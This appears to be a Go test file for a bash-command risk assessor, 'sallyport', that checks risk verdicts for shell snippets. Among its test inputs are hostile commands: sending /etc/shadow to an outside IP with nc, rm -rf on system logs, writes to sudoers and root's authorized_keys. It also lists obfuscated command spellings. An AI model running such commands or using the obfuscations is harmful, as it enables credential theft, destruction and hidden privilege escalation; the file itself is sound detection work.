package assess

import (
	"context"
	"slices"
	"testing"

	"sallyport"
)

// TestWhatIsLeftOpenIsNotLow: a blank in a place that changes, runs or sends something is not low; one that only names what is looked at
// is, since every value of it is as grave as any other.
func TestWhatIsLeftOpenIsNotLow(t *testing.T) {
	for _, c := range []struct {
		text string
		want sallyport.Verdict
	}{
		{`grep foo "$1"`, sallyport.Low},
		{`cat "$FILE" | sort`, sallyport.Low},
		{`for f in *.log; do wc -l "$f"; done`, sallyport.Low},
		{`rm -f "$TMPDIR/x"`, sallyport.Low},
		{`rm "$1"`, sallyport.Medium},
		{`date > "$OUT"`, sallyport.Medium},
		{`chmod 600 "$F"`, sallyport.Medium},
		{`while read -r f; do rm "$f"; done < list`, sallyport.Medium},
		{`curl -s "$URL"`, sallyport.Medium},
		{`find $1 -name x`, sallyport.Medium},
		{`tar cf a.tar $FILES`, sallyport.Medium},
		{`tar cf a.tar -- $FILES`, sallyport.Low},
		{`echo x >> "$ROOT/etc/sudoers"`, sallyport.Medium}, // a tree of its own, or the system's where ROOT is not set
		{`echo x >> "$zq/etc/sudoers"`, sallyport.High},     // zq is set by nobody
		{`nc 203.0.113.9 80 < "$zq/etc/shadow"`, sallyport.Critical},
		{`cp k "$1/root/.ssh/authorized_keys"`, sallyport.High},
		{`rm -rf $q/var/log`, sallyport.Critical},
	} {
		if a := Assess(context.Background(), Request{Text: []byte(c.text), Lang: "bash"}); a.Verdict != c.want {
			t.Errorf("%s\n verdict %q, want %q: %v %v", c.text, a.Verdict, c.want, a.Findings, a.Unknown)
		}
	}
}

// TestProgramsAreFoundByTheirNames: what `command -v` prints is run as what it names.
func TestProgramsAreFoundByTheirNames(t *testing.T) {
	for _, c := range []struct {
		text string
		want sallyport.Verdict
	}{
		{`p=$(command -v df) && "$p" -h`, sallyport.Low},
		{`$(which df) -h`, sallyport.Low},
		{`$(command -v bash) -c 'nc 203.0.113.9 80 < /etc/shadow'`, sallyport.Critical},
		{`$(command -v "$X") -h`, sallyport.Medium},
	} {
		a := Assess(context.Background(), Request{Text: []byte(c.text), Lang: "bash"})
		if a.Verdict != c.want || a.Complete != (c.want != sallyport.Medium) {
			t.Errorf("%s\n verdict %q, complete %v, want %q: %v %v", c.text, a.Verdict, a.Complete, c.want, a.Findings, a.Unknown)
		}
	}
}

// TestNeedlessSpellingsAreNoted: harmless work that is hidden is not low, and the same work written plainly is.
func TestNeedlessSpellingsAreNoted(t *testing.T) {
	odd := []string{`$'\x75ptime'`, `up\time`, `'up'time`, `up""time`, `$(echo uptime)`, "`echo uptime`", `a=up b=time; $a$b`, `{ls,-l}`, `c=xuptime; ${c#x}`, `c=UPTIME; ${c,,}`, `X=ls:-l; IFS=:; $X`,
		`eval 'uptime'`, `cat a""b`, `awk 'BEGIN{system("uptime")}'`, `python3 -c 'import os; os.system("uptime")'`}
	late := []string{`trap uptime EXIT`, `trap uptime EXIT; exit 0`}
	unseen := []string{`(uptime) >/dev/null 2>&1 &`, `setsid uptime &>/dev/null`}
	plain := []string{`uptime`, `\ls -l`, `"ls" -l`, `c=uptime; $c`, `c='ls -l'; $c`, `a=(ls -l); "${a[@]}"`, `v=3; python$v --version >/dev/null`, `d=/usr/bin; "$d/uptime"`, `cat ''`, `t=$(mktemp); trap 'rm -f "$t"' EXIT; date > "$t"`, `uptime &`}
	for rule, texts := range map[string][]string{"odd-spelling": odd, "needless-trap": late, "unseen": unseen, "": plain} {
		for _, text := range texts {
			a := Assess(context.Background(), Request{Text: []byte(text), Lang: "bash"})
			has := func(r string) bool {
				return slices.ContainsFunc(a.Findings, func(f sallyport.Finding) bool { return f.Rule == r })
			}
			switch {
			case rule != "" && (!has(rule) || a.Verdict == sallyport.Low):
				t.Errorf("%s\n verdict %q, findings %v, want %q", text, a.Verdict, a.Findings, rule)
			case rule == "" && (has("odd-spelling") || has("needless-trap") || has("unseen")):
				t.Errorf("%s\n findings %v, want none about its spelling", text, a.Findings)
			}
		}
	}
}

// TestBlanksInCode: what becomes part of commands may add commands.
func TestBlanksInCode(t *testing.T) {
	for text, want := range map[string]sallyport.Verdict{
		`eval "x=$1; ls"`:                           sallyport.Medium,
		`bash -c "ls $1"`:                           sallyport.Medium,
		`bash -c 'ls "$1"' x "$F"`:                  sallyport.Low, // handed over as a word, not as code
		"while read -r f; do sh -c \"wc $f\"; done": sallyport.Medium,
		`x=$(mktemp); sh -c "cat $x"`:               sallyport.Low,
	} {
		if a := Assess(context.Background(), Request{Text: []byte(text), Lang: "bash"}); a.Verdict != want {
			t.Errorf("%s\n verdict %q, want %q: %v", text, a.Verdict, want, a.Unknown)
		}
	}
}

// TestClearedFalseAlarms: each of these was once taken for something grave.
func TestClearedFalseAlarms(t *testing.T) {
	for _, text := range []string{
		"cat <<EOF > /opt/app/env\nNAME=$NAME\nMODE=production and more\nEOF\nset -a\n. /opt/app/env\n",
		"while shift; do case $1 in -v) v=1;; esac; start $1; done",
		"spin() { while [ true ]; do printf x; sleep 1; done; }; spin &\nls\n",
		"systemctl enable cron",
		"killall -HUP rsyslogd",
		"openssl req -x509 -nodes -newkey rsa:2048 -keyout k.key -out /etc/ssl/certs/own.crt",
		"for f in *.c; do sh -c \"wc $f\"; done",
		"${find} /var/run/.tmp -ls",
		"curl -o /tmp/a.bin https://example.com/a\nunpacker extract /tmp/a.bin",
	} {
		if a := Assess(context.Background(), Request{Text: []byte(text), Lang: "bash"}); a.Verdict.Alert() {
			t.Errorf("%s\n verdict %q: %v", text, a.Verdict, a.Findings)
		}
	}
	for _, text := range []string{"killall rsyslogd", "cp x /etc/cron.d/y", "cp evil /etc/ssl/certs/0a1b2c3d.0", "$find /tmp/.x/payload", "$x rm -rf /etc"} {
		if a := Assess(context.Background(), Request{Text: []byte(text), Lang: "bash"}); a.Verdict == sallyport.Low {
			t.Errorf("%s\n verdict low", text)
		}
	}
}
